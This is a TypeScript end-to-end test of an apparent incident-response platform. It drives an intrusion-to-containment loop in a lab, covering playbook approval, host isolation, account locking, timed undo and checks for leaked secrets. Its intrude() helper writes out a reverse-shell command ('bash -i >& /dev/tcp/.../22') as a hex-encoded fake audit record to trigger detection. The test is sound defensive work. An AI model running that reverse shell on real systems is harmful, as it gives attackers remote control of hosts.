/** response.test: the whole loop on real systems, in network namespaces: an intrusion on one host is seen and becomes an incident; a
 *  playbook started on it keeps what is volatile, proposes isolation and a locked account with their impact; operations approves in the
 *  browser; ping and bind prove it, and prove the undo on its time. HOLDFAST_TEST_ROUNDS is how often the way from alert to containment is
 *  timed (2), HOLDFAST_TEST_SCREENSHOTS names a folder for pictures of each step. */
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { mkdirSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { accessible, buildWeb, launch, logIn as logInPage, noBrowser, open, settled } from "../e2e/browser.ts";
import { type RunningServer, startHoldfast } from "../e2e/server.ts";
import { type Lab, labMissing, startLab } from "./lab/lab.ts";
import { crowding, milliseconds as ms } from "./machine.ts";
import { type Json, logIn, PASSWORD, type Person, until, withToken } from "./people.ts";

const PICTURES = process.env["HOLDFAST_TEST_SCREENSHOTS"] ?? "";
const ROUNDS = Number(process.env["HOLDFAST_TEST_ROUNDS"] ?? 2);
/** From alert to verified containment, without the time that people take. */
const CONTAINED_WITHIN_MS = 10_000;
const UNDONE_WITHIN_MS = 2_000;

describe("the response loop on real hosts", { skip: labMissing() || noBrowser }, () => {
  let lab: Lab;
  let server: RunningServer;
  let browser: Browser;
  let analyst: Person;
  let operator: Person;
  const steps: string[] = [];
  /** Alert to verified containment, of each time. */
  const took: number[] = [];

  before(async () => {
    buildWeb();
    lab = await startLab();
    server = await startHoldfast({ env: { HOLDFAST_SYSLOG_HOST: lab.address } });
    browser = await launch();
    await prepare(withToken(server));
    analyst = await logIn(server, "ana");
    operator = await logIn(server, "olga");
  });
  after(async () => {
    await browser?.close();
    await server?.stop();
    await lab?.close();
  });

  test("seen, a playbook, approved, isolated, proven, undone on time, and all of it on the timeline", async (t) => {
    assert.equal(lab.ping("client-01", "web-01"), true);
    assert.equal(canBind("mallory"), true);
    const began = Date.now();
    intrude();
    const { incidentId, raisedAt } = await newIncident();
    const seenMs = Date.now() - raisedAt;
    step("incident", began);

    const security = await open(browser, server, {});
    await logInPage(security, server, { user: "ana", password: PASSWORD });
    const { page: desk } = security;
    await desk.goto(`${server.url}/incidents/${incidentId}`);
    await desk.getByRole("tab", { name: /^Story/ }).waitFor();
    await picture(desk, "1-incident");
    await desk.goto(`${server.url}/incidents/${incidentId}?tab=runs`);
    await desk.getByRole("combobox", { name: /^Playbook/ }).click();
    await desk.getByRole("option", { name: "Cut off an intruder" }).click();
    await desk.getByRole("button", { name: "Run playbook" }).click();
    await desk.getByLabel("user", { exact: true }).fill("mallory");
    await desk
      .getByText(/disruption/)
      .first()
      .waitFor();
    await picture(desk, "2-playbook");
    await accessible(desk, "the start of a playbook");
    assert.equal(lab.ping("client-01", "web-01"), true, "a look ahead does nothing");
    const startedAt = Date.now();
    await desk.getByRole("button", { name: "Start the run" }).click();
    const runId = await until("a run", () => runOf(incidentId), { holds: (id) => id !== "" });
    const { isolation, locking } = await proposals(runId);
    const askedMs = Date.now() - startedAt;
    step("approval asked for", began);
    await desk.getByRole("link", { name: "Approval" }).first().waitFor();
    await picture(desk, "3-run");
    await accessible(desk, "a run");

    const approval = await operator.get(`/api/approvals/${isolation.approvalId}`);
    const { impact, playbookVersion } = approval["effect"] as Json & {
      impact: { services: { id: string }[]; owners: { id: string }[] };
    };
    assert.deepEqual([impact.services.map(({ id }) => id), impact.owners.map(({ id }) => id)], [["shop"], ["netops"]]);
    assert.equal(playbookVersion, "cut-off v1");
    assert.equal((await decide(analyst, isolation.approvalId)).status, 403, "whoever started it does not approve it");
    assert.equal(lab.ping("client-01", "web-01"), true, "nothing happens before approval");

    const operations = await open(browser, server, {});
    await logInPage(operations, server, { user: "olga", password: PASSWORD });
    const { page } = operations;
    await approve(page, locking.approvalId, "4-approval-account");
    await effect(locking.effectId, "done");
    assert.equal(canBind("mallory"), false, "locked");
    assert.equal(canBind("alice"), true, "others go on");
    await page.goto(`${server.url}/approvals?approval=${isolation.approvalId}`);
    await page.getByText("holdfast_isolation").first().waitFor();
    await accessible(page, "an approval");
    const approvedAt = await approve(page, isolation.approvalId, "5-approval-host");
    const isolated = await effect(isolation.effectId, "done");
    const verifiedMs = Date.parse(String(isolated["settledAt"])) - approvedAt;
    took.push(seenMs + askedMs + verifiedMs);
    step(`verified ${verifiedMs} ms after approval`, began);
    assert.equal((isolated["proof"] as Json)["verdict"], "holds");
    assert.equal(lab.ping("client-01", "web-01"), false, "isolated");
    assert.equal(lab.ping("client-01", "db-01"), true, "others go on");
    await page.goto(`${server.url}/incidents/${incidentId}?tab=actions`);
    await page.getByText("in place").first().waitFor();
    await picture(page, "6-in-place");
    await accessible(page, "the actions of an incident");

    const undone = await effect(isolation.effectId, "undone");
    const lateMs = Date.parse(String(undone["undoneAt"])) - Date.parse(String(isolated["undoAt"]));
    assert.ok(lateMs >= 0 && lateMs <= UNDONE_WITHIN_MS, `undone ${lateMs} ms after its time`);
    assert.equal((undone["undoProof"] as Json)["verdict"], "does-not-hold");
    assert.equal(lab.ping("client-01", "web-01"), true, "back");
    await effect(locking.effectId, "undone");
    assert.equal(canBind("mallory"), true, "back");
    step(`undone ${lateMs} ms after its time`, began);

    await page.goto(`${server.url}/playbooks/runs/${runId}`);
    await page.getByRole("button", { name: "Done", exact: true }).click();
    const ended = await until("the run ends", () => operator.get(`/api/playbook-runs/${runId}`), {
      holds: (run) => run["state"] !== "running",
    });
    assert.equal(ended["state"], "done");
    // The other team's page shows it by itself.
    await desk.getByText("Answered by olga").waitFor();
    await picture(desk, "7-run-done");
    await evidence(incidentId);
    await page.goto(`${server.url}/incidents/${incidentId}?tab=evidence`);
    await page.getByText("sha256").first().waitFor();
    await picture(page, "8-evidence");
    await page.goto(`${server.url}/incidents/${incidentId}`);
    await page.getByText("Undone and verified").first().waitFor();
    await picture(page, "9-timeline");
    await timeline(incidentId);
    assert.deepEqual([...security.problems(), ...operations.problems()], []);
    await Promise.all([security.close(), operations.close()]);
    await close(incidentId);
    t.diagnostic(steps.join(" · "));
  });

  test(`alert to verified containment, ${ROUNDS} more times without people to wait for`, async (t) => {
    for (let round = 0; round < ROUNDS; round += 1) {
      intrude();
      const { incidentId, raisedAt } = await newIncident();
      const seenAt = Date.now();
      const started = await analyst.make("POST", "/api/playbooks/cut-off/run", {
        incidentId,
        variables: { user: "mallory" },
        key: randomUUID(),
      });
      const { isolation, locking } = await proposals(String(started["id"]));
      const askedAt = Date.now();
      for (const { approvalId } of [isolation, locking])
        assert.equal((await decide(operator, approvalId)).status, 200, "approved");
      await effect(isolation.effectId, "done");
      const doneAt = Date.now();
      took.push(doneAt - raisedAt);
      t.diagnostic(
        `incident seen after ${ms(seenAt - raisedAt)}, approvals asked for after ${ms(askedAt - seenAt)}, contained after ${ms(doneAt - askedAt)}`,
      );
      assert.equal(lab.ping("client-01", "web-01"), false, "isolated");
      await effect(isolation.effectId, "undone");
      await effect(locking.effectId, "undone");
      assert.equal(lab.ping("client-01", "web-01"), true, "back");
      await close(incidentId);
    }
    const sorted = took.toSorted((a, b) => a - b);
    const at = (part: number): number => sorted[Math.ceil(part * sorted.length) - 1] ?? 0;
    const limit = CONTAINED_WITHIN_MS * crowding();
    t.diagnostic(
      `alert to verified containment, ${took.length} times: p50 ${ms(at(0.5))}, p95 ${ms(at(0.95))}; each ${took.map(ms).join(" ")}; ` +
        `${crowding().toFixed(1)} times the cores' work on the machine`,
    );
    assert.ok(at(0.95) < limit, `p95 is ${ms(at(0.95))}, the limit is ${ms(limit)}`);
  });

  test("the secrets of the connectors stand in no file that a backup of the home would take along", () => {
    const { bindPassword } = lab.directory;
    const key = lab.key.privateKey.split("\n")[2] ?? "";
    assert.ok(key.length > 40 && bindPassword.length > 8, "there is something to look for");
    const wanted = [bindPassword, key].flatMap((secret) =>
      [secret, Buffer.from(secret).toString("base64"), Buffer.from(secret).toString("hex")].map((form) =>
        Buffer.from(form),
      ),
    );
    const files = readdirSync(server.home, { recursive: true, withFileTypes: true }).filter((one) => one.isFile());
    const found: string[] = [];
    let named = false;
    for (const { parentPath, name } of files) {
      const bytes = bytesOf(join(parentPath, name));
      named ||= bytes.includes("sessionBase");
      if (wanted.some((form) => bytes.includes(form))) found.push(join(parentPath, name));
    }
    assert.ok(named, "the settings beside them are found, so the search looks at the right files");
    assert.deepEqual(found, []);
  });

  /** A shell on web-01 that calls home, told by the audit records that the host's own auditd would send. */
  function intrude(): void {
    const to = lab.host("client-01").address;
    const script = [
      `echo "<182>1 $(date -u +%Y-%m-%dT%H:%M:%S.000Z) web-01 audispd 4182 - - type=EXECVE msg=audit($(date +%s).100:9021): argc=3 a0=\\"bash\\" a1=\\"-c\\" a2=$(printf 'bash -i >& /dev/tcp/${to}/22 0>&1' | od -An -tx1 | tr -d ' \\n' | tr a-f A-F)" > /dev/tcp/${lab.address}/${server.ports.syslog}`,
      `exec 3<>/dev/tcp/${to}/22; head -c 4 <&3`,
    ].join("\n");
    const ran = lab.exec("web-01", ["bash", "-c", script]);
    assert.equal(ran.code, 0, ran.stderr);
  }

  /** The open incident, and when its first alert was raised. */
  async function newIncident(): Promise<{ incidentId: string; raisedAt: number }> {
    const found = await until("an incident", () => items("/api/incidents?state=open"), {
      holds: (incidents) => incidents.length > 0,
    });
    const incidentId = String(found[0]?.["id"]);
    const alerts = (await items("/api/alerts")).filter((alert) => alert["incidentId"] === incidentId);
    return { incidentId, raisedAt: Math.min(...alerts.map((alert) => Date.parse(String(alert["raisedAt"])))) };
  }

  const items = async (path: string): Promise<Json[]> => (await analyst.get(path))["items"] as Json[];

  const runOf = async (incidentId: string): Promise<string> =>
    String((await items(`/api/playbook-runs?incident=${incidentId}`))[0]?.["id"] ?? "");

  /** What the run wants approved; before that it has kept what is volatile. */
  async function proposals(runId: string) {
    const run = await until("both are proposed", () => analyst.get(`/api/playbook-runs/${runId}`), {
      holds: ({ steps: all }) => (all as Json[]).filter(({ approvalId }) => approvalId !== null).length === 2,
    });
    const all = run["steps"] as Json[];
    assert.deepEqual(
      all.map((one) => [one["step"], one["state"]]),
      [
        ["look", "done"],
        ["isolate", "waiting"],
        ["lock", "waiting"],
      ],
    );
    assert.equal(all[0]?.["approvalId"], null, "a read needs no approval");
    const of = (at: number) => ({
      effectId: String(all[at]?.["effectId"]),
      approvalId: String(all[at]?.["approvalId"]),
    });
    return { isolation: of(1), locking: of(2) };
  }

  async function decide(person: Person, approvalId: string): Promise<{ status: number; body: Json }> {
    const { hash } = await operator.get(`/api/approvals/${approvalId}`);
    return person.ask("POST", `/api/approvals/${approvalId}/decision`, { verdict: "approve", reason: "agreed", hash });
  }

  /** In the browser; when the button was pressed. */
  async function approve(page: Page, approvalId: string, name: string): Promise<number> {
    await page.goto(`${server.url}/approvals?approval=${approvalId}`);
    await page.getByLabel("Reason").fill("the shop runs on web-02 meanwhile");
    await picture(page, name);
    const at = Date.now();
    await page.getByRole("button", { name: /^Approve:/ }).click();
    return at;
  }

  const effect = (id: string, state: string): Promise<Json> =>
    until(`effect ${state}`, () => analyst.get(`/api/effects/${id}`), { holds: (one) => one["state"] === state });

  const canBind = (user: string): boolean => lab.bind(user, lab.directory.people[user] ?? "");

  async function evidence(incidentId: string): Promise<void> {
    const files = (await items(`/api/incidents/${incidentId}/evidence`)).filter((one) => one["kind"] === "file");
    assert.ok(files.length > 0, "files are kept");
    for (const file of files) {
      assert.match(String(file["sha256"]), /^[0-9a-f]{64}$/);
      assert.ok(Number(file["bytes"]) > 0, String(file["name"]));
    }
  }

  async function timeline(incidentId: string): Promise<void> {
    const detail = await analyst.get(`/api/incidents/${incidentId}`);
    const told = (detail["timeline"] as Json[]).map(({ title }) => String(title));
    for (const words of [
      "Playbook started: Cut off an intruder",
      "Kept as evidence",
      ...["Isolate host", "Disable account"].flatMap((what) => [
        `Proposed: ${what}`,
        `Approved: ${what}`,
        `Done and verified: ${what}`,
        `Undone and verified: ${what}`,
      ]),
      "Playbook finished: Cut off an intruder",
    ])
      assert.ok(
        told.some((title) => title.startsWith(words)),
        `"${words}" is not on the timeline:\n${told.join("\n")}`,
      );
    assert.equal(detail["waitingFor"], null, "nobody is waited for any more");
  }

  /** The next intrusion is another incident then. */
  async function close(incidentId: string): Promise<void> {
    const body = { state: "closed", verdict: "benign", reason: "a test of ours" };
    await analyst.make("PATCH", `/api/incidents/${incidentId}`, body);
  }

  async function prepare(admin: Person): Promise<void> {
    const hosts = ["web-01", "db-01", "client-01"].map((name) => lab.line(name));
    const secrets = { privateKey: lab.key.privateKey };
    const { url, ca, base, bindDn, bindPassword, sessionBase } = lab.directory;
    const allow = [lab.range];
    const connectors = [
      {
        id: "firewall",
        name: "Firewalls",
        kind: "nftables-ssh",
        secrets,
        settings: { hosts, user: "root", management: [lab.address] },
      },
      { id: "hosts", name: "Hosts", kind: "ssh-host", secrets, settings: { hosts, user: "root" } },
      {
        id: "directory",
        name: "Directory",
        kind: "ldap",
        secrets: { bindPassword },
        settings: { url, ca, base, bindDn, sessionBase },
      },
    ];
    const made = async (path: string, body: Json): Promise<void> =>
      assert.deepEqual((await admin.make("POST", path, body))["problems"] ?? [], [], path);
    for (const connector of connectors) await made("/api/connectors", { ...connector, allow });
    await made("/api/estate/import", { yaml: ESTATE });
    await made("/api/playbooks", { text: PLAYBOOK });
    await made("/api/playbooks/cut-off/publish", {});
    await made("/api/users", { name: "ana", role: "analyst", team: "security", password: PASSWORD });
    await made("/api/users", { name: "olga", role: "operations", team: "operations", password: PASSWORD });
  }

  function step(name: string, since: number): void {
    steps.push(`${name} at ${Date.now() - since} ms`);
  }

  async function picture(page: Page, name: string): Promise<void> {
    if (PICTURES === "") return;
    mkdirSync(PICTURES, { recursive: true });
    await settled(page);
    await page.screenshot({ path: join(PICTURES, `loop-${name}.png`) });
  }
});

/** Of a file that the engines removed meanwhile: none. */
function bytesOf(path: string): Buffer {
  try {
    return readFileSync(path);
  } catch (error) {
    if (error instanceof Error && "code" in error && error.code === "ENOENT") return Buffer.alloc(0);
    throw error;
  }
}

const ESTATE = `
teams:
  - { id: netops, name: Network operations, kind: operations }
services:
  - { id: shop, name: Shop, owner: netops, criticality: 4, exposure: internet, assets: [web-01, web-02] }
assets:
  - { name: web-01, owner: netops, kind: server, criticality: 4, exposure: internet }
  - { name: web-02, owner: netops, kind: server, criticality: 4, exposure: internet }
  - { name: db-01, owner: netops, kind: database, criticality: 4, exposure: internal }
`;

const PLAYBOOK = `
id: cut-off
name: Cut off an intruder
description: Keep what memory knows, then cut the host off and lock the account, each for ten seconds.
types: [mitigation]
variables:
  host: { type: string, required: true, description: where it is, from: "incident.hosts[0]" }
  user: { type: string, required: true, description: whose account is used }
start: look
steps:
  look:
    title: Keep what memory knows
    action: collect-forensics
    with: { host: "\${host}" }
    reason: What runs on \${host} before it is cut off.
    next: contain
  contain:
    title: Cut off and lock
    parallel: [isolate, lock]
    next: back
  isolate:
    title: Isolate the host
    action: isolate-host
    with: { host: "\${host}" }
    reason: A shell on \${host} calls home.
    undo_after: 10s
  lock:
    title: Lock the account
    action: disable-account
    with: { user: "\${user}" }
    reason: \${user} runs the shell.
    undo_after: 10s
  back:
    title: Is it clean?
    manual: Look whether the shell is gone from \${host}, then say done.
    team: operations
`;
